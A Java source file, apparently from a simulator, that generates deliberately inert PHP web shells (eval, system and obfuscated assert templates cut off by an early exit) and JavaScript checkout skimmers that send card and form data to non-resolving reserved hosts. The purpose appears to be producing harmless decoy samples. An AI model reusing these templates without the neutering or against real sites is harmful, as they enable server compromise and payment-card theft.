package org.evenkeel.simulator.tale;

import java.util.List;
import org.evenkeel.simulator.chance.Dice;
import org.evenkeel.simulator.chance.Names;

/// Texts of web shells. Each looks like one and does nothing: it ends before its first statement of
/// consequence.
public final class Shells {
  private static final List<String> ENDS =
      List.of(
          "exit;", "die();", "return;", "die('');", "exit(0);", "http_response_code(404); exit;");
  private static final List<String> FORMS =
      List.of(
          "@eval(base64_decode($_POST['%1$s']));",
          "if (isset($_REQUEST['%1$s'])) { echo '<pre>'; system($_REQUEST['%1$s'] . ' 2>&1'); echo '</pre>'; }",
          "$%2$s = $_COOKIE['%1$s'] ?? ''; if (md5($%2$s) === '%3$s') { assert(stripslashes($_POST['%4$s'])); }",
          "$%2$s = 'str' . '_rot' . '13'; $%4$s = $%2$s('flfgrz'); $%4$s($_POST['%1$s']);",
          "if (!empty($_FILES['%1$s'])) { move_uploaded_file($_FILES['%1$s']['tmp_name'], $_POST['%4$s']); } "
              + "echo shell_exec(base64_decode($_SERVER['HTTP_X_%2$s']));",
          "foreach (array('%1$s','%4$s') as $%2$s) { if (isset($_POST[$%2$s])) { "
              + "$f = create_function('', gzinflate(base64_decode($_POST[$%2$s]))); $f(); } }");

  private Shells() {}

  /// A web shell in PHP.
  public static String php(Dice dice) {
    String body =
        dice.oneOf(FORMS)
            .formatted(
                dice.letters(dice.between(1, 6)), dice.letters(4), dice.hex(32), dice.letters(5));
    String head =
        switch (dice.below(4)) {
          case 0 -> "GIF89a;\n<?php ";
          case 1 ->
              "<?php\n/* "
                  + Names.code(dice)
                  + " v"
                  + dice.between(1, 4)
                  + "."
                  + dice.below(10)
                  + " */\n";
          case 2 -> "<?php error_reporting(0); ";
          default -> "<?php\n";
        };
    return head + dice.oneOf(ENDS) + '\n' + body + "\n";
  }

  /// A skimmer in JavaScript that sends to nowhere: its host cannot exist.
  public static String skimmer(Dice dice, String host) {
    String url = "https://" + host + '/' + dice.letters(6);
    String hidden =
        java.util.Base64.getEncoder()
            .encodeToString(url.getBytes(java.nio.charset.StandardCharsets.UTF_8));
    String a = dice.letters(3);
    String b = dice.letters(4);
    String where =
        dice.oneOf(List.of("checkout", "onepage", "onestep", "payment|checkout|commande"));
    return switch (dice.below(3)) {
      case 0 ->
          ("(function(){if(!/%s/.test(location.href))return;var %s=atob('%s');document.addEventListener('change',"
                  + "function(){var %s={};document.querySelectorAll('input,select').forEach(function(e){%s[e.name]=e.value});"
                  + "new Image().src=%s+'?d='+btoa(JSON.stringify(%s))})})();")
              .formatted(where, a, hidden, b, b, a, b);
      case 1 ->
          ("var %s=atob('%s');if(location.pathname.match(/%s/)){var %s=new WebSocket(%s.replace('https','wss'));"
                  + "setInterval(function(){var c=document.querySelector('[name*=cc_number],[name*=card]');"
                  + "if(c&&c.value.length>12){%s.send(btoa(c.value))}},900)}")
              .formatted(a, hidden, where, b, a, b);
      default ->
          ("window.%s=function(f){var %s=new FormData(f);fetch(atob('%s'),{method:'POST',mode:'no-cors',body:%s})};"
                  + "if(location.href.indexOf('%s')>0)[].forEach.call(document.forms,function(f){f.addEventListener('submit',"
                  + "function(){%s(f)})});")
              .formatted(a, b, hidden, b, where.split("\\|")[0], a);
    };
  }

  /// A host that looks like a statistics service and cannot exist (RFC 2606).
  public static String host(Dice dice) {
    String name = dice.oneOf(List.of("cdn", "stat", "tag", "js", "pixel", "metrics", "api"));
    return name
        + '-'
        + Names.code(dice).replace('_', '-')
        + dice.oneOf(List.of(".invalid", ".example", ".test"));
  }
}
